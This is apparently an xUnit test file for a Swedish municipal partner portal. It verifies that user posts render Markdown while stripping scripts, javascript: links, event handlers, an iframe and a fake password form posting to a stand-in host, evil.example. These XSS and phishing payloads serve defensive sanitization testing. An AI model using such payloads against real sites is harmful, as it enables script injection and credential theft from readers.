using System.Net;
using Trygghet.Portal.Testing;

namespace Trygghet.Modules.Partners.Tests;

/// <summary>Threads and report-backs: Markdown is rendered, and what could run in a reader's browser is removed.</summary>
public sealed class DiscussionTests
{
    [Fact]
    public async Task ThreadAndReply_AreMarkdown_ScriptsHandlersAndJavascriptLinksAreRemoved()
    {
        await using var site = await PartnersSite.StartAsync();
        using var admin = await site.AdminAsync();
        await admin.AddMemberAsync("skribent@example.se", "Deltagare");
        using var writer = await site.SignedInAsync("skribent@example.se", PortalHttp.UserPassword);

        var started = await writer.SubmitFormAsync(PartnersHttp.Space + "/trad/ny", [("Title", "Belysning i parken"), ("Body", "Vi föreslår **bättre belysning**.")]);
        var thread = started.RedirectPath();
        Assert.StartsWith(PartnersHttp.Space + "/trad/", thread, StringComparison.Ordinal);
        var hostile = "Håller med, *särskilt* vid lekplatsen. <script>alert('x')</script> <a href=\"javascript:alert(1)\">klicka</a> <img src=x onerror=alert(1)> <b onclick=\"alert(2)\">fet</b>";
        Assert.Equal(thread, (await writer.SubmitFormAsync(thread, [("Body", hostile)])).RedirectPath());
        // A script as an HTML block of its own (not inside a paragraph) is removed too.
        Assert.Equal(thread, (await writer.SubmitFormAsync(thread, [("Body", "<script>alert('y')</script>\n\nEfter skriptet.")])).RedirectPath());
        var empty = await writer.SubmitFormAsync(thread, [("Body", "  ")]);
        Assert.Equal("Ditt svar måste anges.", (await empty.ReadDocumentAsync()).QuerySelector("#body-error")?.TextContent.Trim());

        var (_, page) = await admin.GetPageAsync(thread);
        var posts = page.QuerySelectorAll("main article.post .post-body").ToList();
        Assert.Equal(3, posts.Count);
        Assert.Empty(page.QuerySelectorAll("main article.post script"));
        Assert.EndsWith("Efter skriptet.", posts[2].TextContent.Trim(), StringComparison.Ordinal);
        Assert.Equal("bättre belysning", posts[0].QuerySelector("strong")?.TextContent);
        var reply = posts[1];
        // Raw HTML is shown as the text it is (UserMarkdown): nothing of it becomes an element or an attribute.
        Assert.Equal(["p", "em"], reply.QuerySelectorAll("*").Select(e => e.LocalName));
        Assert.Empty(reply.QuerySelectorAll("*").SelectMany(e => e.Attributes));
        Assert.Contains("<b onclick=\"alert(2)\">fet</b>", reply.TextContent, StringComparison.Ordinal);
        Assert.Equal("särskilt", reply.QuerySelector("em")?.TextContent);
        Assert.Contains("Håller med", reply.TextContent, StringComparison.Ordinal);
        site.App.AssertNoErrorsLogged();
    }

    /// <summary>A partner must not be able to plant a password form in front of staff, nor hide the rest of a post
    /// behind an unclosed frame: the thread and the report-backs render through the same allow-list.</summary>
    [Fact]
    public async Task Post_WithAFakeForm_AndAnUnclosedIframe_RendersNeither_AndTheRestShows()
    {
        await using var site = await PartnersSite.StartAsync();
        using var admin = await site.AdminAsync();
        await admin.AddMemberAsync("falsk@example.se", "Deltagare");
        using var writer = await site.SignedInAsync("falsk@example.se", PortalHttp.UserPassword);
        const string Planted = "Logga in igen:\n\n<form action=\"https://evil.example\"><input type=password name=p><button>Skicka</button></form>\n\n"
            + "Se [länk](https://example.se/a \"titel\") och <a href=\"https://evil.example\" target=\"_blank\" name=\"x\" style=\"position:fixed\">här</a>\n\n"
            + "<iframe src=\"https://evil.example\">\n\nResten av **inlägget** syns.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> citat\n\n`kod`";

        var thread = (await writer.SubmitFormAsync(PartnersHttp.Space + "/trad/ny", [("Title", "Falskt formulär"), ("Body", Planted)])).RedirectPath();
        var measure = await writer.OptionAsync(PartnersHttp.Space + "/aterrapporter/ny", "MeasureSlug", "Tryggare innerstad kvällstid");
        Assert.Equal(PartnersHttp.Space, (await writer.SubmitFormAsync(PartnersHttp.Space + "/aterrapporter/ny", [("MeasureSlug", measure), ("Body", Planted)])).RedirectPath());

        var (_, threadPage) = await admin.GetPageAsync(thread);
        var (_, spacePage) = await admin.GetPageAsync(PartnersHttp.Space);
        foreach (var body in new[] { threadPage.QuerySelector("main article.post .post-body")!, spacePage.QuerySelector("main article.report-back .post-body")! })
        {
            Assert.Empty(body.QuerySelectorAll("form, input, button, iframe, textarea, select, img, script, style"));
            var attributes = body.QuerySelectorAll("*").SelectMany(e => e.Attributes).Select(a => a.Name).Distinct().Order();
            Assert.Equal(["href", "rel", "title"], attributes);
            Assert.All(body.QuerySelectorAll("a"), a => Assert.Equal("nofollow noopener ugc", a.GetAttribute("rel")));
            Assert.Contains(body.QuerySelectorAll("a[title='titel']"), a => a.GetAttribute("href") == "https://example.se/a");
            Assert.Equal("inlägget", body.QuerySelector("strong")?.TextContent);
            Assert.Equal("citat", body.QuerySelector("blockquote")?.TextContent.Trim());
            Assert.Equal("2", body.QuerySelectorAll("table td").Last().TextContent);
            Assert.Equal("kod", body.QuerySelector("code")?.TextContent);
        }

        site.App.AssertNoErrorsLogged();
    }

    [Fact]
    public async Task ReportBack_OnAMeasureOfThePlan_IsShownInTheSpace_AnUnknownMeasureIsRefused()
    {
        await using var site = await PartnersSite.StartAsync();
        using var admin = await site.AdminAsync();
        await admin.AddMemberAsync("rapportor@example.se", "Deltagare");
        using var writer = await site.SignedInAsync("rapportor@example.se", PortalHttp.UserPassword);
        var form = PartnersHttp.Space + "/aterrapporter/ny";
        var measure = await writer.OptionAsync(form, "MeasureSlug", "Tryggare innerstad kvällstid");

        var unknown = await writer.SubmitFormAsync(form, [("MeasureSlug", "hemlig-atgard"), ("Body", "Text")]);
        Assert.Equal("Åtgärd: välj en åtgärd i listan.", (await unknown.ReadDocumentAsync()).QuerySelector("#measure-error")?.TextContent.Trim());
        Assert.Equal(PartnersHttp.Space, (await writer.SubmitFormAsync(form, [("MeasureSlug", measure), ("Body", "Regionen har anställt två **fältassistenter**.")])).RedirectPath());

        var (_, space) = await writer.GetPageAsync(PartnersHttp.Space);
        var report = Assert.Single(space.QuerySelectorAll("main article.report-back"));
        Assert.Equal("/atgardsplan/" + measure, report.QuerySelector("h3 a")!.GetAttribute("href"));
        Assert.Equal("fältassistenter", report.QuerySelector("strong")?.TextContent);
        site.App.AssertNoErrorsLogged();
    }
}
